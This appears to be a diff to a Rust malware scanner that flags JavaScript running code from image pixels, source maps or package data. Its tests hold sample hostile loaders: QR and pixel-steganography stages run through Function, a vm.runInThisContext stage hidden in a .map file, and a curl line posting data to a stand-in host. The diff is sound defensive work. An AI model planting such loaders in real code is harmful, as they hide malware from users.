@@ -120,6 +120,11 @@ pub fn worth_tracking(src: &str) -> bool {
         "eval",
         "Function",
         "vm.",
+        // vm's runners by name: the module may be an inline `require("vm")`, not `vm.`.
+        "runInThisContext",
+        "runInNewContext",
+        "runInContext",
+        "compileFunction",
         "_compile",
         "Runtime.evaluate",
         "import(",
@@ -1085,6 +1090,16 @@ impl Tracker<'_, '_> {
                     }
                     return Some((Source::Remote, format!("the response of {p}")));
                 }
+                // The pixels of an image drawn on a canvas (`ctx.getImageData(…)`): images are
+                // fetched by URL, and pixels read back to text are a known hiding place (QR or
+                // steganographic stages). Not in bundles (over 200 KB): names are tracked without
+                // scopes there, and a pixel buffer's name links to unrelated code.
+                if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses()
+                    && m.property.name == "getImageData"
+                    && self.an.src_len() <= 200 * 1024
+                {
+                    return Some((Source::Remote, "the pixels of an image".into()));
+                }
                 if is_sink(&p) {
                     return None;
                 }
@@ -1949,6 +1964,48 @@ exec(`curl -s -d ${d} https://c.example/e`);"#;
             .into_iter()
             .map(|f| (f.source, f.sink))
             .collect()
+    }
+
+    #[test]
+    fn image_pixels_run_as_code_are_remote() {
+        let src = r#"function rev(s) { return s.split("").reverse().join(""); }
+const img = new Image();
+img.onload = () => {
+  const c = document.createElement("canvas"); const g = c.getContext("2d"); g.drawImage(img, 0, 0);
+  const px = g.getImageData(0, 0, c.width, c.height);
+  const code = decodeQr(px.data, px.width, px.height);
+  if (code) Reflect.apply(Function, null, [rev(code.data)])();
+};
+img.src = "https://h.example/b.png";"#;
+        let r = runs(src);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
+        let lsb = r#"const d = ctx.getImageData(0, 0, 64, 64).data; let s = "";
+for (let i = 0; i < d.length; i += 4) s += String.fromCharCode(d[i]);
+new Function(s)();"#;
+        assert_eq!(runs(lsb).first().map(|r| r.0), Some(Source::Remote));
+        // Pixels filtered and drawn back run nothing.
+        let filter = r#"const px = ctx.getImageData(0, 0, w, h); for (let i = 0; i < px.data.length; i += 4) px.data[i] = 255 - px.data[i];
+ctx.putImageData(px, 0, 0); const f = new Function("a", "b", "return a + b"); f(1, 2);"#;
+        assert!(runs(filter).is_empty(), "{:?}", runs(filter));
+    }
+
+    #[test]
+    fn a_runner_on_an_inline_require_runs_package_data() {
+        // `require("vm").runInThisContext(x)`: the runner's object is the require call itself.
+        let src = r#"if (typeof window === "undefined") {
+  const m = JSON.parse(require("fs").readFileSync(__filename + ".map", "utf8"));
+  const src = m.sourcesContent.find((s) => s.startsWith("/*c*/"));
+  if (src) require("vm").runInThisContext(src, { filename: "x.js" })(require);
+}"#;
+        let r = runs(src);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::PackageData), "{r:?}");
+        let other = r#"const m = JSON.parse(require("node:fs").readFileSync(__dirname + "/stage.json", "utf8"));
+require("node:vm").runInNewContext(m.code, { require });"#;
+        let r = runs(other);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::PackageData), "{r:?}");
+        // Code the caller hands in is not hidden data.
+        let caller = r#"module.exports = (code) => require("vm").runInThisContext(code);"#;
+        assert!(runs(caller).is_empty(), "{:?}", runs(caller));
     }
 
     #[test]
